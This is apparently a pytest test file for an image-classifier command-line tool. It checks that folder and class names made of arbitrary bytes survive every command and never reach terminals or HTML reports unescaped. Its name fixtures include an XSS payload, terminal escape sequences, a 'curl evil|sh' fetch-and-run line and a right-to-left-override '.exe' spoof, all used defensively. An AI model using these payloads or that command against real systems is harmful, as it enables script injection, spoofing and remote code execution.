"""The whole way from images to answers with names that hold any bytes, line breaks, escapes of terminals, HTML and direction marks."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from imgcls_fast.cli.app import main
from imgcls_fast.core.run import Run

CLASSES = [
    bytes(b for b in range(1, 100) if b != ord("/")), bytes(range(100, 200)), bytes(range(200, 256)),
    b"<img src=x onerror=alert(1)>&\"'", b"\x1b[31mred\x1b]0;t\x07\nerror[E001]: x\n  try:   curl \revil|sh",
    "\u202egnp.exe\u2066\u200f".encode(), b"=1+1, $x$ {y} %s \\udce9",
]  # fmt: skip
FOLDER = b"d\xe4ta \x1b[2J\n<b>"


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder whose own name, classes and files are called as nobody would."""
    root = os.path.join(os.fsencode(tmp_path_factory.mktemp("names")), FOLDER)
    draw = np.random.default_rng(0)
    for level, label in enumerate(CLASSES):
        os.makedirs(os.path.join(root, label))
        for k in range(8):
            pixels = np.clip(draw.normal(30 * level + 20, 15, (32, 32, 3)), 0, 255).astype(np.uint8)
            name = CLASSES[k][:200] if k < len(CLASSES) else b"plain"
            with open(os.path.join(root, label, name + b".png"), "wb") as file:
                Image.fromarray(pixels).save(file, "PNG")
        with open(os.path.join(root, label, b"bad" + label[:200] + b".png"), "wb") as file:
            file.write(b"<html>")
    return Path(os.fsdecode(root))


class Line:
    """Runs command lines, and holds that they end well and print nothing that a terminal obeys."""

    def __init__(self, capsys: pytest.CaptureFixture[str]) -> None:
        self.capsys = capsys

    def __call__(self, *words: object) -> str:
        code = main(list(map(str, words)))
        told = "".join(self.capsys.readouterr())
        assert code == 0, told
        assert {character for character in told if not character.isprintable()} <= {"\n", "\t"}, words
        return told


def test_a_check_and_a_split_keep_every_class_and_every_name(
    odd: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    line = Line(capsys)
    assert line("data", "check", odd)
    line("data", "split", odd, "-o", tmp_path / "split.csv")
    with open(tmp_path / "split.csv", encoding="utf-8", errors="surrogateescape", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {os.fsencode(row["label"]) for row in rows} == set(CLASSES)
    assert len(rows) == 8 * len(CLASSES) and all(os.path.exists(tmp_path / row["path"]) for row in rows)
    code = main(["data", "check", str(tmp_path / "split.csv"), "--json"])
    found = json.loads(capsys.readouterr().out)
    assert code == 0 and {os.fsencode(name) for name in found["counts"]} == set(CLASSES)


@pytest.mark.parametrize(
    "locale", [{"LANG": "C"}, {"LC_ALL": "C"}, {"LC_ALL": "POSIX", "PYTHONIOENCODING": "ascii"}], ids=str
)
def test_the_plainest_terminal_is_enough(odd: Path, locale: dict[str, str]) -> None:
    environment = {
        name: value
        for name, value in os.environ.items()
        if not name.startswith(("LC_", "LANG", "PYTHONIO", "PYTHONUTF8"))
    }
    words = [sys.executable, "-P", "-m", "imgcls_fast", "data", "check", str(odd)]
    done = subprocess.run(words, env=environment | locale, capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert f"{8 * len(CLASSES)} images, {len(CLASSES)} classes".encode() in done.stdout


@pytest.mark.slow
def test_every_verb_takes_every_name(
    odd: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    line, runs = Line(capsys), tmp_path / os.fsdecode(b"r\xe4ns")
    monkeypatch.setenv("IMGCLS_RUNS", str(runs))
    place = runs / os.fsdecode(b"\x1b]0;x\x07\xff")
    line(
        "train",
        odd,
        "-m",
        "small-cnn",
        "--img-size",
        "32",
        "-e",
        "1",
        "-b",
        "8",
        "--seed",
        "1",
        "--loader",
        "torch",
        "-o",
        place,
    )
    for words in (
        ["runs", "list"],
        ["runs", "show", place],
        ["runs", "show"],
        ["eval", place],
        ["predict", place, odd],
        ["report", place],
    ):
        line(*words)
    line("predict", place, odd, "-o", tmp_path / "a.csv")
    line("predict", place, odd, "-o", tmp_path / "a.jsonl", "-k", 2)
    line("eval", place, odd, "-o", tmp_path / "eval")
    for words in (
        ["--onnx"],
        ["--pt2"],
        ["--triton"],
        ["--onnx", "--precision", "int8", "--search", "0", "--max-drop", "90"],
    ):
        line("export", place, *words)
    for runtime in ("onnx", "openvino"):
        line("predict", place, odd, "--runtime", runtime)
    line("verify", place)
    demand_exact(Run(place), odd, tmp_path)


def demand_exact(run: Run, odd: Path, out: Path) -> None:
    """What was written holds every name exactly, and shows nothing that a terminal or a browser obeys."""
    import onnx

    from imgcls_fast.core.bundle import read_bundle
    from imgcls_fast.core.exports import find_export

    for path in [*run.directory.rglob("*.json"), *run.directory.rglob("*.yaml"), run.directory / "log.txt"]:
        lines = path.read_bytes().decode("utf-8").split("\n")
        assert all(text.isprintable() for text in lines), path
    page = run.report_path.read_bytes().decode("utf-8")
    assert "<img src=x" not in page and "\x1b" not in page and "\u202e" not in page
    bundle = read_bundle(run.bundle_path)
    assert {os.fsencode(name) for name in bundle.labels.classes} == set(CLASSES)
    assert run.config.data.source == str(odd)
    model = onnx.load(str(find_export(run.exports, bundle, "onnx", "fp32").path))
    facts = {entry.key: entry.value for entry in model.metadata_props}
    assert json.loads(facts["imgcls_fast.classes"]) == list(bundle.labels.classes)
    with open(out / "a.csv", encoding="utf-8", errors="surrogateescape", newline="") as file:
        rows = list(csv.DictReader(file))
    answers = [json.loads(text) for text in (out / "a.jsonl").read_text("utf-8").split("\n")[:-1]]
    assert [row["path"] for row in rows] == [answer["path"] for answer in answers]
    assert all(os.path.exists(row["path"]) for row in rows) and len(rows) == 9 * len(CLASSES)
    assert run.predictions("test").labels == bundle.labels
